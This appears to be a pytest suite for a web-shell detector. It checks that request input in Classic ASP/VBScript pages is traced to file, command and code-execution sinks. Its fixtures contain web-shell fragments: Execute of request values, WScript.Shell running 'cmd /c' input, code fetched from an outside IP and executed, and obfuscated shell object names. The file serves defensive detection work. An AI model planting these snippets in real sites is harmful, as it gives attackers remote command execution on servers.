"""Classic ASP (VBScript): request input followed through variables and procedures to file-system and
process sinks."""

from __future__ import annotations

import pytest

from webhunt.detect.document import Document
from webhunt.detect.semantic import SemanticLayer
from webhunt.detect.semantic.vbscript import _statements
from webhunt.model import FileContext, Language, Reason, Verdict

CMD, FILE, READ = "WH-S-ASP-002", "WH-S-ASP-012", "WH-S-ASP-013"
CODE, LOADED = "WH-S-ASP-001", "WH-S-ASP-007"


def analyse(page: str, relpath: str = "x.asp") -> list[Reason]:
    data = page.encode("utf-8")
    ctx = FileContext(relpath=relpath, language=Language.ASP, size=len(data))
    return SemanticLayer()(Document(data), ctx, _no_rescan)


def _no_rescan(data: bytes, ctx: FileContext) -> Verdict:
    raise AssertionError("the semantic layer never re-scans")


def ids(page: str) -> set[str]:
    return {r.id for r in analyse(page)}


def test_statements() -> None:
    code = 'a = 1 : b = "x:y" \' c = 2\nRem d = 3\nf = g( _\n  h)\n'
    stmts = [[t.text for t in s] for s in _statements(code)]
    assert stmts == [["a", "=", "1"], ["b", "=", "x:y"], ["f", "=", "g", "(", "h", ")"]]


FLOWS = [
    (
        "two variables and two helpers",
        """<%
Sub SaveIt(ByVal body, ByVal file)
    Set st = Server.CreateObject("ADODB.Stream")
    With st
        .Open
        .WriteText = body
        .SaveToFile file, 2
    End With
End Sub
Function Keep(name, text)
    SaveIt text, name
End Function
a = Request("path")
b = a
Call Keep(b, Request.Form("c"))
%>""",
        FILE,
    ),
    (
        "function result",
        """<% Function Where(d, n)
  Where = Server.MapPath(d) & "\\" & n
End Function
Set fso = CreateObject("Scripting.FileSystemObject")
fso.DeleteFile Where("/", Request.QueryString("n")), True %>""",
        FILE,
    ),
    (
        "attributes of a GetFile object",
        """<% p = Request.Form("p")
Set f = Server.CreateObject("Scripting.FileSystemObject").GetFile(p)
f.Attributes = 0 %>""",
        FILE,
    ),
    ("opentextfile for writing", '<% Set o = fso.OpenTextFile(Request("f"), 2, True) %>', FILE),
    ("opentextfile for reading", '<% Set o = fso.OpenTextFile(Request("f"), 1) %>', READ),
    (
        "copy in a single-line If",
        '<% s = Request("s") : If s <> "" Then fso.CopyFile s, Server.MapPath("/x.asp") %>',
        FILE,
    ),
    (
        "wscript.shell run",
        """<% Function Go(c)
  Set sh = Server.CreateObject("WScript" & ".Shell")
  sh.Run "cmd /c " & c, 0, True
End Function
x = Request.Cookies("k") : Go x %>""",
        CMD,
    ),
    (
        "inline object exec",
        '<% v = Request.ServerVariables("HTTP_X_C") : CreateObject("WScript.Shell").Exec(v) %>',
        CMD,
    ),
    (
        "shell.application",
        '<% Set a = CreateObject("Shell.Application") : a.ShellExecute "cmd.exe", Request("a") %>',
        CMD,
    ),
    ("for each", "<% For Each k In Request.Form : fso.DeleteFolder k : Next %>", FILE),
    ("execute", '<% c = Request.Item("z") : Execute c %>', CODE),
    ("execute global in parentheses", '<% ExecuteGlobal(Request.Form("z")) %>', CODE),
    ("eval", '<% Response.Write Eval(Request("e")) %>', CODE),
    (
        "script control",
        """<% Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
sc.Language = "VBScript"
sc.ExecuteStatement Request.Form("code") %>""",
        CODE,
    ),
    ("scriptlet moniker", '<% Set x = GetObject("script:" & Request.QueryString("u")) %>', LOADED),
    (
        "a method of the page's own class",
        """<% Class Runner
  Public Sub Go(ByVal x)
    ExecuteGlobal x
  End Sub
End Class
Dim r : Set r = New Runner
r.Go Request.Cookies("k") %>""",
        CODE,
    ),
    (
        "a class method's result",
        """<% Class Box
  Public Function Unwrap(v)
    Unwrap = Mid(v, 3)
  End Function
End Class
Set b = New Box
Execute b.Unwrap(Request("p")) %>""",
        CODE,
    ),
    (
        "checked, but the procedure called only writes a message",
        """<% d = Request.QueryString("dir")
If InStr("image,media,file", d) < 1 Then
  Warn "bad folder"
End If
fso.CreateFolder Server.MapPath("/files/" & d)
Sub Warn(m)
  If m <> "" Then Response.End
  Response.Write m
End Sub %>""",
        FILE,
    ),
    (
        "downloaded code",
        """<% Set h = Server.CreateObject("MSXML2.ServerXMLHTTP.6.0")
h.Open "GET", "http://203.0.113.9/u.txt", False
h.Send
Execute h.ResponseText %>""",
        CODE,
    ),
    ("array element", '<% Dim a(1) : a(0) = Request("q") : Execute a(0) %>', CODE),
    (
        "dictionary entry",
        '<% Set d = CreateObject("Scripting.Dictionary")\nd.Add "k", Request.Cookies("c")\nExecute d.Item("k") %>',
        CODE,
    ),
    ("dictionary item assigned", '<% d.Item("k") = Request.Form("x")\nExecuteGlobal d("k") %>', CODE),
]


@pytest.mark.parametrize(("name", "page", "rule"), FLOWS, ids=[f[0] for f in FLOWS])
def test_flow_is_found(name: str, page: str, rule: str) -> None:
    assert rule in ids(page)


SAFE = [
    (
        "record fields set from the form, printed encoded",
        """<% rs("title") = Request.Form("title") : rs.Update
Response.Write Server.HTMLEncode(rs("title")) %>""",
    ),
    (
        "fixed name, request content",
        """<% Sub Log(t)
  Set f = fso.OpenTextFile(Server.MapPath("/App_Data/log.txt"), 8, True)
  f.WriteLine t
End Sub
Log Request("q") %>""",
    ),
    ("numeric id", '<% n = CInt(Request("id")) : fso.DeleteFile Server.MapPath("/c/" & n & ".xml") %>'),
    (
        "fixed list",
        """<% t = Request("t")
If t <> "a" And t <> "b" Then t = "a"
fso.CreateTextFile(Server.MapPath("/t/" & t & ".htm")) %>""",
    ),
    (
        "rejected in a block",
        """<% t = Request("t")
If InStr(t, "..") > 0 Then
  Response.End
End If
fso.DeleteFile Server.MapPath("/up/" & t) %>""",
    ),
    (
        "rejected by a procedure that ends the response",
        """<% d = Request.QueryString("dir")
If InStr("image,media,file", d) < 1 Then
  Fail "bad folder"
End If
fso.CreateFolder Server.MapPath("/files/" & d)
Sub Fail(m)
  Response.Write m
  Response.End
End Sub %>""",
    ),
    (
        "dots and slashes replaced",
        '<% n = Replace(Replace(Request("n"), "..", ""), "\\", "") : st.SaveToFile n %>',
    ),
    ("server's own variable", '<% p = Request.ServerVariables("SCRIPT_NAME") : fso.DeleteFile p & ".bak" %>'),
    ("run of an unknown object", '<% job.Run Request("x") %>'),
    ("comparison is no assignment", '<% If p = Request("p") Then fso.DeleteFile p %>'),
    ("execute of the page's own code", '<% Execute ReadTemplate(Server.MapPath("/inc/menu.inc")) %>'),
    (
        "eval of a field name from a fixed list",
        '<% f = "title" : Response.Write Eval("rs(""" & f & """)") %>',
    ),
    ("numeric eval", '<% Response.Write Eval(CInt(Request("a")) & "+1") %>'),
    (
        "a method of an unknown object",
        """<% Class Runner
  Public Sub Go(ByVal x)
    ExecuteGlobal x
  End Sub
End Class
Set db = Server.CreateObject("ADODB.Connection")
db.Execute Request("q") %>""",
    ),
    (
        "downloaded data written out",
        """<% Set h = Server.CreateObject("MSXML2.ServerXMLHTTP")
h.Open "GET", "https://example.com/feed.xml", False
h.Send
Response.Write Server.HTMLEncode(h.ResponseText) %>""",
    ),
    (
        "a procedure's own variable",
        """<% Sub A() : p = Request("p") : End Sub
Sub B() : p = "/x.txt" : fso.DeleteFile p : End Sub %>""",
    ),
]


@pytest.mark.parametrize(("name", "page"), SAFE, ids=[s[0] for s in SAFE])
def test_safe_page_has_no_flow(name: str, page: str) -> None:
    assert not {FILE, CMD, CODE, LOADED} & ids(page)


def test_description_follows_the_path() -> None:
    page = '<% Sub Del(p) : fso.DeleteFile p : End Sub\nx = Request.Form("f") : y = x : Del y %>'
    (reason,) = analyse(page)
    assert reason.description.startswith(
        'request input chooses the file that is written, deleted, copied or moved: Request.Form("f") (line 2)'
        " -> x -> y -> Del(p) -> fso.DeleteFile() (line 1)"
    )
    assert reason.family == "filesman" and reason.score == 70


def test_pages_without_source_or_sink_are_skipped() -> None:
    assert analyse('<% fso.DeleteFile "c:\\x" %>') == []
    assert analyse('<% Response.Write Request("x") %>') == []


def test_a_user_check_validates() -> None:
    page = """<% Function IsAllowed(e) : IsAllowed = (e = "jpg") : End Function
n = Request.Form("n")
If IsAllowed(n) Then st.SaveToFile Server.MapPath("/img/" & n) %>"""
    assert FILE not in ids(page)
    assert FILE in ids(page.replace("If IsAllowed(n)", "If Len(n) > 0"))


def test_an_expired_budget_keeps_the_flows_found_so_far() -> None:
    """The time guard stops taint from spreading further (hostile input only); a flow that needs
    no spreading round, a request value written straight into a sink, is still reported."""
    from webhunt.detect.semantic.layer import analyse_vbscript
    from webhunt.detect.semantic.transforms import Budget

    direct = Document(b'<% fso.DeleteFile Request.Form("f") %>')
    relayed = Document(b'<% x = Request.Form("f") : y = x : fso.DeleteFile y %>')
    assert analyse_vbscript(direct, Budget(seconds=-1)) != []
    assert analyse_vbscript(relayed, Budget(seconds=-1)) == []  # no round ran
    assert analyse_vbscript(relayed, Budget()) != []


def test_trailing_blanks_do_not_join_two_lines() -> None:
    # spaces or tabs before a line end leave the line end a statement separator
    code = 'a = Request("f")  \nSet o = x \t\r\nb = 2'
    stmts = [[t.text for t in s] for s in _statements(code)]
    assert stmts == [["a", "=", "request", "(", "f", ")"], ["set", "o", "=", "x"], ["b", "=", "2"]]
    page = '<%\nname = Request.Form("n")   \nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nfso.DeleteFile name\n%>'
    assert FILE in ids(page)


@pytest.mark.parametrize(
    "create",
    [
        'Set sh = CreateObject(StrReverse("llehS.tpircSW"))',
        'p = Replace("WS#cript.Sh#ell", "#", "")\nSet sh = Server.CreateObject(p)',
        'Set sh = CreateObject(Chr(87) & "Script.Shell")',
        'Set sh = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")',
    ],
)
def test_a_shell_object_named_by_a_rebuilt_progid_or_its_class_id_is_known(create: str) -> None:
    page = f'<%\n{create}\nsh.Run Request.Form("c"), 0, True\n%>'
    assert CMD in ids(page)
    # another object (a class id or ProgID that is not the shell's) runs nothing
    other = page.replace("72C24DD5", "00024500").replace("llehS.tpircSW", "PTTHLMX.2LMXSM")
    other = other.replace('"WS#cript.Sh#ell"', '"MSXML2.#DOMDocument"').replace(
        '"Script.Shell"', '"Scripting.Dictionary"'
    )
    assert CMD not in ids(other)


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        ('<%\nWith Request\n  Execute .Form("x")\nEnd With\n%>', CODE),
        ('<%\nWith Request\n  If .Item("a") <> "" Then c = .Item("a")\nEnd With\nExecuteGlobal c\n%>', CODE),
        # nested: the inner With's own leading dot is the outer object's member
        (
            '<%\nWith Request\n  With .QueryString\n    s = .Item("s")\n  End With\nEnd With\nExecute s\n%>',
            CODE,
        ),
        ('<%\nWith CreateObject("WScript.Shell")\n  .Run Request("c")\nEnd With\n%>', CMD),
        # a member of something else, and a dot after a name or a bracket, stay as they are
        ('<%\nWith Response\n  .Write Request("x")\nEnd With\nExecute "x = 1"\n%>', None),
        ('<%\nWith Request\nEnd With\nExecute Session("x").Item\n%>', None),
    ],
)
def test_with_blocks_name_the_object_of_leading_dots(page: str, expected: str | None) -> None:
    found = ids(page)
    if expected is None:
        assert not found & {CODE, CMD}
    else:
        assert expected in found


def test_with_block_keeps_offsets_for_lines() -> None:
    page = '<%\nWith Request\n  x = .Form("x")\nEnd With\nExecute x\n%>'
    hit = next(r for r in analyse(page) if r.id == CODE)
    assert hit.line == 5
    assert 'Request.Form("x") (line 3)' in hit.description


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        ('<%\nSub Go(c)\n  Execute c\nEnd Sub\nSet r = GetRef("Go")\nr Request("c")\n%>', True),
        ('<%\nSub Go(c)\n  Execute c\nEnd Sub\nSet r = GetRef("Go")\nCall r(Request.Form("c"))\n%>', True),
        # the pointer given a constant, or pointing at a procedure that only writes
        ('<%\nSub Go(c)\n  Execute c\nEnd Sub\nSet r = GetRef("Go")\nr "x = 1"\n%>', False),
        (
            '<%\nSub Show(c)\n  Response.Write Server.HTMLEncode(c)\nEnd Sub\nSet r = GetRef("Show")\n'
            'r Request("c")\nExecute "y = 2"\n%>',
            False,
        ),
    ],
)
def test_getref_pointer_calls_the_procedure(page: str, expected: bool) -> None:
    assert (CODE in ids(page)) is expected


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        # the procedure's name put together from constants before GetRef
        ('<%\nSub Go(c)\n  Execute c\nEnd Sub\nSet r = GetRef("G" & "o")\nr Request("c")\n%>', True),
        (
            '<%\nSub Go(c)\n  Execute c\nEnd Sub\nn = StrReverse("oG")\nSet r = GetRef(n)\nr Request("c")\n%>',
            True,
        ),
        # a folded name of a procedure that only writes escaped text
        (
            '<%\nSub Show(c)\n  Response.Write Server.HTMLEncode(c)\nEnd Sub\nSet r = GetRef("Sh" & "ow")\n'
            'r Request("c")\nExecute "y = 2"\n%>',
            False,
        ),
        # a name the request chooses is not folded into a procedure
        ('<%\nSub Go(c)\n  Response.Write c\nEnd Sub\nSet r = GetRef(Request("n"))\nr "x"\n%>', False),
    ],
)
def test_getref_name_built_from_constants(page: str, expected: bool) -> None:
    assert (CODE in ids(page)) is expected


OUTER = "WH-S-ASP-017"


@pytest.mark.parametrize(
    "page",
    [
        "<%\nIf Len(payload) > 0 Then ExecuteGlobal payload\n%>",
        "<% Execute(Decode(blob)) %>",
        '<% Set ws = CreateObject("WScript.Shell")\nSet e = ws.Exec("cmd /c " & cmdline)\nResponse.Write e.StdOut.ReadAll %>',
        '<% Set sa = CreateObject("Shell.Application") : sa.ShellExecute task, "", "", "open", 0 %>',
        '<script runat="server" language="vbscript">\nEval("x = " & expr)\n</script>',
    ],
)
def test_code_run_from_a_variable_the_page_never_sets_is_a_module_of_a_split_shell(page: str) -> None:
    assert OUTER in ids(page), [(r.id, r.description) for r in analyse(page)]


@pytest.mark.parametrize(
    "page",
    [
        '<% code = "Response.Write 1" : ExecuteGlobal code %>',  # set in the page
        "<% Sub Run(code)\nExecute code\nEnd Sub %>",  # a parameter
        "<% For Each item In list : Execute item : Next %>",
        "<% conn.Execute sql : rs.Open sql, conn %>",  # ADO, not VBScript's Execute
        '<!--#include file="lib.asp"-->\n<% Execute hook %>',  # its own include may set it
        "<% ' Execute payload\nRem Eval(x)\n%>",  # comments
        "<p>Run the Execute command on payload first.</p>",  # text of the page
        '<% Set ws = CreateObject("WScript.Shell") : ws.Run "notepad.exe" %>',  # a fixed command
    ],
)
def test_pages_that_set_what_they_run_or_run_nothing_are_no_module(page: str) -> None:
    assert OUTER not in ids(page)


@pytest.mark.parametrize(
    ("members", "use", "reported"),
    [
        # a Property Let/Get pair (one procedure: the Let's parameter is what the Get returns)
        (
            "Private m\nPublic Property Let V(x)\n  m = x\nEnd Property\nPublic Property Get V()\n  V = m\nEnd Property",
            "b.V",
            True,
        ),
        # the Get written first, then the Let, on single lines
        (
            "Private m\nPublic Property Get V() : V = m : End Property\nPublic Property Let V(x) : m = x : End Property",
            "b.V",
            True,
        ),
        # a public field
        ("Public m", "b.m", True),
        # the object keeps the value, but the page runs a constant
        ("Public m", '"Response.Write 1"', False),
    ],
)
def test_an_object_of_the_pages_own_class_carries_what_it_is_given(
    members: str, use: str, reported: bool
) -> None:
    """``b.V = Request(...)`` then ``Execute b.V``: the value goes through the class's property or
    field and comes back out of it (sweep 76)."""
    name = "V" if "Property" in members else "m"
    page = f'<%\nClass Box\n{members}\nEnd Class\nSet b = New Box\nb.{name} = Request.Cookies("t")\nExecuteGlobal {use}\n%>'
    assert (CODE in ids(page)) is reported
